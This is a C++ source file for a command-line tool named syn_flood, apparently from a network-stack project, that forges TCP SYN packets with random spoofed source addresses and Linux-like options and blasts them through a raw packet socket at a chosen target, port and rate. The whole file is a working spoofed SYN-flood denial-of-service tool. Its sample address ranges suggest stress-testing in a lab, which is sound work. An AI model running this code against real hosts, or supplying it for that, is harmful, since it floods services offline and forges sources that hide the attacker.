// A flood of SYNs from forged addresses.
//
//   syn_flood DEVICE TARGET PORT PREFIX --count N --rate N [--to MAC]
//
// Each comes from a random address of PREFIX (such as 198.18.0.0/15 or 2001:db8:5::/48) and a random port, with the
// options of a Linux client. They leave by a packet socket of DEVICE: as Ethernet frames to MAC, or without one as IP
// packets. It prints how many the kernel has taken, which are all, and the seconds that took.

#include <arpa/inet.h>
#include <fmt/format.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include <CLI/CLI.hpp>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <random>
#include <system_error>
#include <thread>

#include "backends/host/file.h"
#include "stack/wire/checksum.h"
#include "stack/wire/ethernet.h"
#include "stack/wire/ipv4.h"
#include "stack/wire/ipv6.h"
#include "stack/wire/protocol.h"
#include "stack/wire/tcp.h"

namespace {

namespace wire = windhover::stack::wire;
using windhover::backends::host::File;
using windhover::stack::base::MutableBytes;
using Clock = std::chrono::steady_clock;

constexpr std::size_t kBatch = 64;
constexpr std::size_t kFrameSizeMax = 128;
constexpr std::chrono::milliseconds kQueueFull{1};  // Before a device whose queue was full is tried again.

struct Options {
  std::string device;
  std::string target;
  std::uint16_t port = 0;
  std::string prefix;
  std::string mac;
  std::uint64_t count = 1'000'000;
  double rate = 100'000;  // A second.
  std::uint64_t seed = 1;
};

int checked(int result, const char* call) {
  if (result < 0) throw std::system_error(errno, std::generic_category(), call);
  return result;
}

template <typename T>
T parsed(const std::optional<T>& value, const std::string& text) {
  if (!value) throw std::invalid_argument(fmt::format("'{}' cannot be read", text));
  return *value;
}

/// Writes SYN after SYN.
class Forger {
 public:
  Forger(const Options& options, wire::MacAddress own)
      : own_(own), target_(parsed(wire::Address::parse(options.target), options.target)), random_(options.seed) {
    port_ = options.port;
    if (!options.mac.empty()) to_ = parsed(wire::MacAddress::parse(options.mac), options.mac);
    const std::size_t slash = options.prefix.find('/');
    prefix_ = parsed(wire::Address::parse(options.prefix.substr(0, slash)), options.prefix);
    prefix_bits_ = static_cast<unsigned>(std::stoul(options.prefix.substr(slash + 1)));
    if (prefix_.is_v4() != target_.is_v4()) throw std::invalid_argument("two families of addresses");
  }

  wire::EtherType type() const { return target_.is_v4() ? wire::EtherType::kIpv4 : wire::EtherType::kIpv6; }

  /// Returns the frame's size.
  std::size_t write(MutableBytes to) {
    const std::size_t link = to_ ? wire::EthernetView::kUntaggedSize : 0;
    const std::size_t network = target_.is_v4() ? wire::Ipv4Header::kSize : wire::Ipv6Header::kSize;
    const wire::Address source = any_source();
    const std::size_t segment = write_segment(to.subspan(link + network), source);
    const auto size = static_cast<std::uint16_t>(segment);
    if (target_.is_v4()) {
      wire::Ipv4Header{.payload_size = size, .protocol = wire::kProtocolTcp, .source = source, .destination = target_}
          .write(to.subspan(link));
    } else {
      wire::Ipv6Header{
          .payload_size = size, .next_header = wire::kProtocolTcp, .source = source, .destination = target_}
          .write(to.subspan(link));
    }
    if (to_) wire::EthernetHeader{.destination = *to_, .source = own_, .ether_type = type()}.write(to);
    return link + network + segment;
  }

 private:
  wire::Address any_source() {
    std::array<std::uint8_t, 16> bytes{};
    const std::size_t size = prefix_.is_v4() ? 4 : 16;
    std::memcpy(bytes.data(), prefix_.octets().data(), size);
    for (std::size_t i = 0; i < size; ++i) {
      const auto noise = static_cast<std::uint8_t>(random_());
      const unsigned kept = std::min(8U, prefix_bits_ - std::min(prefix_bits_, static_cast<unsigned>(8 * i)));
      const auto mask = static_cast<std::uint8_t>(0xff00U >> kept);
      bytes[i] = static_cast<std::uint8_t>((bytes[i] & mask) | (noise & ~mask));
    }
    return size == 4 ? wire::Address::v4(bytes) : wire::Address::v6(bytes);
  }

  std::size_t write_segment(MutableBytes to, const wire::Address& source) {
    wire::TcpOptions options;
    options.mss = static_cast<std::uint16_t>(target_.is_v4() ? 1460 : 1440);
    options.sack_permitted = true;
    options.timestamps = wire::TcpTimestamps{static_cast<std::uint32_t>(random_()), 0};
    options.window_scale = 7;
    const wire::TcpHeader header{.source_port = static_cast<std::uint16_t>(1024 + random_() % 60000),
                                 .destination_port = port_,
                                 .seq = wire::Seq(static_cast<std::uint32_t>(random_())),
                                 .flags = wire::kTcpSyn,
                                 .window = 64240};
    const std::size_t size = header.write(to, options);
    const auto sum = wire::pseudo_header_sum(source, target_, wire::kProtocolTcp, size) + wire::sum(to.first(size));
    windhover::stack::base::store_be(&to[wire::TcpHeader::kChecksumOffset], sum.finish());
    return size;
  }

  wire::MacAddress own_;
  std::optional<wire::MacAddress> to_;
  wire::Address target_;
  wire::Address prefix_;
  unsigned prefix_bits_ = 0;
  std::uint16_t port_ = 0;
  std::mt19937_64 random_;
};

/// A packet socket that hears nothing.
File open_device(const Options& options) {
  File file(checked(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), "socket AF_PACKET"));
  const int on = 1;
  checked(setsockopt(file.fd(), SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on), "setsockopt PACKET_QDISC_BYPASS");
  sockaddr_ll local{};
  local.sll_family = AF_PACKET;
  local.sll_ifindex = static_cast<int>(if_nametoindex(options.device.c_str()));
  checked(bind(file.fd(), reinterpret_cast<const sockaddr*>(&local), sizeof local), "bind");
  return file;
}

wire::MacAddress link_address(const File& device, const Options& options) {
  ifreq request{};
  std::strncpy(request.ifr_name, options.device.c_str(), IFNAMSIZ - 1);
  checked(ioctl(device.fd(), SIOCGIFHWADDR, &request), "ioctl SIOCGIFHWADDR");
  wire::MacAddress address;
  std::memcpy(address.octets.data(), request.ifr_hwaddr.sa_data, address.octets.size());
  return address;
}

class Batch {
 public:
  Batch(const std::string& device, wire::EtherType type) {
    // A device without link addresses learns from this what it is given.
    to_.sll_family = AF_PACKET;
    to_.sll_ifindex = static_cast<int>(if_nametoindex(device.c_str()));
    to_.sll_protocol = htons(static_cast<std::uint16_t>(type));
    for (std::size_t i = 0; i < kBatch; ++i) {
      messages_[i].msg_hdr.msg_name = &to_;
      messages_[i].msg_hdr.msg_namelen = sizeof to_;
      pieces_[i].iov_base = frames_[i].data();
      messages_[i].msg_hdr.msg_iov = &pieces_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }

  /// Forges `count` and hands them to the kernel; returns how many it took.
  std::size_t send(int fd, Forger& forger, std::size_t count) {
    for (std::size_t i = 0; i < count; ++i) pieces_[i].iov_len = forger.write(frames_[i]);
    const int sent = sendmmsg(fd, messages_.data(), static_cast<unsigned>(count), 0);
    if (sent >= 0) return static_cast<std::size_t>(sent);
    if (errno != ENOBUFS && errno != EAGAIN) checked(sent, "sendmmsg");
    std::this_thread::sleep_for(kQueueFull);
    return 0;
  }

 private:
  sockaddr_ll to_{};
  std::array<std::array<std::uint8_t, kFrameSizeMax>, kBatch> frames_;
  std::array<iovec, kBatch> pieces_{};
  std::array<mmsghdr, kBatch> messages_{};
};

void flood(const Options& options) {
  const File device = open_device(options);
  Forger forger(options, link_address(device, options));
  Batch batch(options.device, forger.type());
  std::uint64_t sent = 0;
  const Clock::time_point begin = Clock::now();
  while (sent < options.count) {
    const auto count = static_cast<std::size_t>(std::min<std::uint64_t>(kBatch, options.count - sent));
    std::this_thread::sleep_until(begin + std::chrono::duration_cast<Clock::duration>(
                                              std::chrono::duration<double>(static_cast<double>(sent) / options.rate)));
    sent += batch.send(device.fd(), forger, count);
  }
  fmt::print("sent={} seconds={:.3f}\n", sent, std::chrono::duration<double>(Clock::now() - begin).count());
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app("A flood of SYNs from forged addresses", "syn_flood");
  Options options;
  app.add_option("device", options.device)->required();
  app.add_option("target", options.target)->required();
  app.add_option("port", options.port)->required();
  app.add_option("prefix", options.prefix)->required();
  app.add_option("--to", options.mac, "The link address to send to");
  app.add_option("--count", options.count, "How many");
  app.add_option("--rate", options.rate, "How many a second")->check(CLI::PositiveNumber);
  app.add_option("--seed", options.seed, "Of what is random");
  CLI11_PARSE(app, argc, argv);
  try {
    flood(options);
  } catch (const std::exception& error) {
    fmt::print(stderr, "syn_flood: {}\n", error.what());
    return 1;
  }
}
